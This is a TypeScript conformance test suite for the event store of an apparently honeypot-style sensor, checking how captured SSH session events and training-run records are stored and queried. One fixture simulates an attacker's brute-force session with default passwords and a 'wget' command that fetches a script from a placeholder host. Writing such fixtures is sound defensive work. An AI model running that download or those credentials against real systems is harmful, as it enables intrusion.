// The behaviour every Store must show, whatever its backend: SQLite runs it now, PostgreSQL will run it too.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Store, TrainingRun } from '../../src/core/store.js';
import { PhantomError } from '../../src/core/errors.js';
import { EVENT_DEFINITIONS, EventSchema, type PhantomEvent } from '../../src/schema/events.js';
import { EventFactory, type Conn } from './fixtures.js';

/** Opens a fresh, empty store; the suite closes it. */
export type MakeStore = () => Promise<Store>;

async function withStore(makeStore: MakeStore, body: (store: Store) => Promise<void>): Promise<void> {
  const store = await makeStore();
  try {
    await body(store);
  } finally {
    await store.close();
  }
}

/** A finished five-fold training run with every optional part filled in. */
function sampleRun(id: string, over: Partial<TrainingRun> = {}): TrainingRun {
  return {
    id,
    experiment: 'default',
    start_time: '2026-01-02T03:04:05.000Z',
    end_time: '2026-01-02T03:05:00.000Z',
    status: 'finished',
    params: { trees: 50, folds: 5, max_depth: null, bootstrap: true, data: 'train.csv' },
    fold_metrics: [0.91, 0.93, 0.9, 0.92, 0.94].map((f1, i) => ({ macroF1: f1, accuracy: 0.95 - i / 100 })),
    metrics: { macroF1_mean: 0.92, macroF1_std: 0.0141, oof_accuracy: 0.93 },
    artifacts: [`runs/${id}/cv-stability.json`, `runs/${id}/evaluation.md`],
    data_fingerprint: { sha256: 'ab'.repeat(32), rows: 600, cols: 8 },
    feature_schema_hash: 'cd'.repeat(32),
    model: { name: 'classifier', version: 3 },
    tags: { source: 'conformance', 'phantomnet.label': 'class' },
    ...over,
  };
}

/** A realistic SSH brute-force-then-shell session, split where a group commit could split it. */
function realisticSession(f: EventFactory, conn: Conn): { first: PhantomEvent[]; second: PhantomEvent[] } {
  const first = [
    f.make(conn, 'session.connect', {}),
    f.make(conn, 'client.version', { version: 'SSH-2.0-Go' }),
    f.make(conn, 'client.kex', {
      hassh: '0123456789abcdef0123456789abcdef',
      hasshAlgorithms: 'a;b;c;d',
      kexAlgs: ['a'],
      keyAlgs: ['b'],
      encCS: ['c'],
      macCS: ['d'],
      compCS: ['none'],
      langCS: [],
    }),
    f.make(conn, 'login.failed', { username: 'root', password: 'root', method: 'password' }),
    f.make(conn, 'login.failed', { username: 'root', password: '123456', method: 'password' }),
  ];
  const second = [
    f.make(conn, 'login.success', { username: 'admin', password: 'admin', method: 'password' }),
    f.make(conn, 'command.input', { input: 'uname -a' }),
    f.make(conn, 'command.input', { input: 'wget http://203.0.113.5/x.sh' }),
    f.make(conn, 'session.closed', { duration_ms: 4200, reason: 'client' }),
  ];
  return { first, second };
}

export function runStoreConformance(makeStore: MakeStore): void {
  test('conformance: every catalogue event round-trips unchanged and valid', () =>
    withStore(makeStore, async (store) => {
      const f = new EventFactory();
      const events = f.everyType({ session: 'rt0000000001', src_ip: '198.51.100.1' });
      assert.deepEqual(
        new Set(events.map((e) => e.eventid)),
        new Set(EVENT_DEFINITIONS.map((d) => d.eventid)),
        'the fixture covers the whole catalogue',
      );
      store.append(events);
      await store.flush();
      const back = await store.events({ session: 'rt0000000001' });
      assert.deepEqual(back, events);
      for (const e of back) assert.ok(EventSchema.safeParse(e).success, `${e.eventid} read back is valid`);
      assert.equal(store.committedCount(), events.length);
    }));

  test('conformance: event queries filter by session, eventid, src_ip, since and limit, ordered by id', () =>
    withStore(makeStore, async (store) => {
      const f = new EventFactory();
      const a = { session: 'qa0000000001', src_ip: '198.51.100.2' };
      const b = { session: 'qb0000000001', src_ip: '198.51.100.3' };
      const events = [
        f.make(a, 'session.connect', {}),
        f.make(b, 'session.connect', {}),
        f.make(a, 'command.input', { input: 'id' }),
        f.make(b, 'command.input', { input: 'w' }),
        f.make(a, 'command.input', { input: 'ls' }),
      ];
      // Appended out of order: reads still come back in id (time) order.
      store.append([events[4]!, events[0]!, events[3]!]);
      store.append([events[1]!, events[2]!]);
      await store.flush();
      const ids = (list: PhantomEvent[]) => list.map((e) => e.id);
      assert.deepEqual(ids(await store.events({})), ids(events));
      assert.deepEqual(ids(await store.events({ session: a.session })), ids([events[0]!, events[2]!, events[4]!]));
      assert.deepEqual(ids(await store.events({ eventid: 'command.input' })), ids([events[2]!, events[3]!, events[4]!]));
      assert.deepEqual(ids(await store.events({ src_ip: b.src_ip })), ids([events[1]!, events[3]!]));
      assert.deepEqual(ids(await store.events({ since: events[3]!.timestamp })), ids([events[3]!, events[4]!]));
      assert.deepEqual(ids(await store.events({ limit: 2 })), ids(events.slice(0, 2)));
      assert.deepEqual(ids(await store.events({ session: a.session, eventid: 'command.input', limit: 1 })), [events[2]!.id]);
    }));

  test('conformance: a session row follows its events across two commits', () =>
    withStore(makeStore, async (store) => {
      const f = new EventFactory();
      const conn = { session: 'ss0000000001', src_ip: '198.51.100.4', src_port: 51_234 };
      const { first, second } = realisticSession(f, conn);
      store.append(first);
      await store.flush();
      const open = await store.session(conn.session);
      assert.ok(open);
      assert.equal(open.outcome, 'open');
      assert.equal(open.login_attempts, 2);
      assert.equal(open.end_time, null);
      store.append(second);
      await store.flush();
      const s = await store.session(conn.session);
      assert.deepEqual(s, {
        session: conn.session,
        sensor: 'sensor-test',
        protocol: 'ssh',
        src_ip: conn.src_ip,
        src_port: 51_234,
        dst_ip: '192.0.2.10',
        dst_port: 2222,
        start_time: first[0]!.timestamp,
        end_time: second[3]!.timestamp,
        duration_ms: 4200,
        close_reason: 'client',
        event_count: 9,
        login_attempts: 3,
        commands: 2,
        credentials: [
          { username: 'root', password: 'root', success: false },
          { username: 'root', password: '123456', success: false },
          { username: 'admin', password: 'admin', success: true },
        ],
        username: 'admin',
        client_version: 'SSH-2.0-Go',
        hassh: '0123456789abcdef0123456789abcdef',
        outcome: 'authenticated',
      });
    }));

  test('conformance: outcome is no_auth, auth_failed or authenticated once closed, open before', () =>
    withStore(makeStore, async (store) => {
      const f = new EventFactory();
      const none = { session: 'oc0000000001', src_ip: '198.51.100.5' };
      const failed = { session: 'oc0000000002', src_ip: '198.51.100.5' };
      const open = { session: 'oc0000000003', src_ip: '198.51.100.5' };
      store.append([
        f.make(none, 'session.connect', {}),
        f.make(failed, 'session.connect', {}),
        f.make(open, 'session.connect', {}),
        f.make(failed, 'login.failed', { username: 'a', password: 'b', method: 'password' }),
        f.make(open, 'login.success', { username: 'a', password: 'b', method: 'password' }),
        f.make(none, 'session.closed', { duration_ms: 5, reason: 'timeout' }),
        f.make(failed, 'session.closed', { duration_ms: 9, reason: 'auth_limit' }),
      ]);
      await store.flush();
      assert.equal((await store.session(none.session))?.outcome, 'no_auth');
      assert.equal((await store.session(failed.session))?.outcome, 'auth_failed');
      assert.equal((await store.session(open.session))?.outcome, 'open');
      assert.equal(await store.session('does-not-exist'), undefined);
    }));

  test('conformance: sources aggregate sessions, events and logins per address', () =>
    withStore(makeStore, async (store) => {
      const f = new EventFactory();
      const ip = '203.0.113.77';
      const one = realisticSession(f, { session: 'sr0000000001', src_ip: ip });
      const two = realisticSession(f, { session: 'sr0000000002', src_ip: ip });
      const other = realisticSession(f, { session: 'sr0000000003', src_ip: '203.0.113.78' });
      store.append([...one.first, ...two.first]);
      await store.flush();
      store.append([...one.second, ...other.first, ...two.second, ...other.second]);
      await store.flush();
      assert.deepEqual(await store.source(ip), {
        src_ip: ip,
        first_seen: one.first[0]!.timestamp,
        last_seen: two.second[3]!.timestamp,
        sessions: 2,
        events: 18,
        login_attempts: 6,
        login_successes: 2,
      });
      assert.equal((await store.source('203.0.113.78'))?.sessions, 1);
      assert.equal(await store.source('192.0.2.200'), undefined);
      const listed = await store.sessions({ src_ip: ip });
      assert.deepEqual(
        listed.map((s) => s.session),
        ['sr0000000002', 'sr0000000001'],
        'most recent first',
      );
      assert.equal((await store.sessions({ limit: 1 })).length, 1);
      assert.equal((await store.sessions({})).length, 3);
    }));

  test('conformance: an event appended twice is stored and counted once', () =>
    withStore(makeStore, async (store) => {
      const f = new EventFactory();
      const conn = { session: 'dup000000001', src_ip: '198.51.100.9' };
      const events = [f.make(conn, 'session.connect', {}), f.make(conn, 'command.input', { input: 'id' })];
      store.append(events);
      await store.flush();
      store.append(events);
      await store.flush();
      assert.equal((await store.events({ session: conn.session })).length, 2);
      assert.equal((await store.session(conn.session))?.event_count, 2);
      assert.equal((await store.source(conn.src_ip))?.sessions, 1);
      assert.equal(store.committedCount(), 2);
    }));

  test('conformance: appended events are committed by the flush interval without an explicit flush', () =>
    withStore(makeStore, async (store) => {
      const f = new EventFactory();
      store.append([f.make({ session: 'gc0000000001', src_ip: '198.51.100.10' }, 'session.connect', {})]);
      const deadline = Date.now() + 5000;
      while (store.committedCount() < 1 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 5));
      assert.equal(store.committedCount(), 1);
      await store.flush();
    }));

  test('conformance: a training run round-trips unchanged, including per-fold metrics and nulls', () =>
    withStore(makeStore, async (store) => {
      const full = sampleRun('0123456789abcdef0123456789abcdef');
      const bare = sampleRun('fedcba9876543210fedcba9876543210', {
        end_time: null,
        status: 'running',
        params: {},
        fold_metrics: [],
        metrics: {},
        artifacts: [],
        data_fingerprint: null,
        model: null,
        tags: {},
      });
      await store.recordRun(full);
      await store.recordRun(bare);
      assert.deepEqual(await store.run(full.id), full);
      assert.deepEqual(await store.run(bare.id), bare);
      assert.equal(await store.run('00000000000000000000000000000000'), undefined);
    }));

  test('conformance: recording a run again replaces it (running, then finished)', () =>
    withStore(makeStore, async (store) => {
      const id = '11111111111111111111111111111111';
      await store.recordRun(sampleRun(id, { status: 'running', end_time: null, model: null, fold_metrics: [] }));
      const done = sampleRun(id);
      await store.recordRun(done);
      assert.deepEqual(await store.runs(), [done]);
    }));

  test('conformance: runs filter by experiment and status, most recent start first, with a limit', () =>
    withStore(makeStore, async (store) => {
      const a = sampleRun('a'.repeat(32), { experiment: 'ssh', start_time: '2026-01-01T00:00:00.000Z' });
      const b = sampleRun('b'.repeat(32), { experiment: 'http', start_time: '2026-01-03T00:00:00.000Z' });
      const c = sampleRun('c'.repeat(32), { experiment: 'ssh', start_time: '2026-01-02T00:00:00.000Z', status: 'failed' });
      for (const r of [a, b, c]) await store.recordRun(r);
      const ids = (list: TrainingRun[]) => list.map((r) => r.id);
      assert.deepEqual(ids(await store.runs()), [b.id, c.id, a.id]);
      assert.deepEqual(ids(await store.runs({ experiment: 'ssh' })), [c.id, a.id]);
      assert.deepEqual(ids(await store.runs({ status: 'failed' })), [c.id]);
      assert.deepEqual(ids(await store.runs({ experiment: 'ssh', status: 'finished' })), [a.id]);
      assert.deepEqual(ids(await store.runs({ limit: 1 })), [b.id]);
    }));

  test('conformance: a run with a bad id, status or a non-finite metric is refused with PN_ERR_STORE', () =>
    withStore(makeStore, async (store) => {
      const refused = (err: unknown) => err instanceof PhantomError && err.code === 'PN_ERR_STORE';
      await assert.rejects(store.recordRun(sampleRun('not-hex')), refused);
      await assert.rejects(store.recordRun(sampleRun('d'.repeat(32), { status: 'paused' as TrainingRun['status'] })), refused);
      await assert.rejects(store.recordRun(sampleRun('e'.repeat(32), { metrics: { macroF1_mean: Number.NaN } })), refused);
      await assert.rejects(
        store.recordRun(sampleRun('f'.repeat(32), { fold_metrics: [{ rocAucMacro: Number.POSITIVE_INFINITY }] })),
        (err: unknown) => refused(err) && /fold 0/.test((err as Error).message),
      );
      assert.deepEqual(await store.runs(), []);
    }));
}
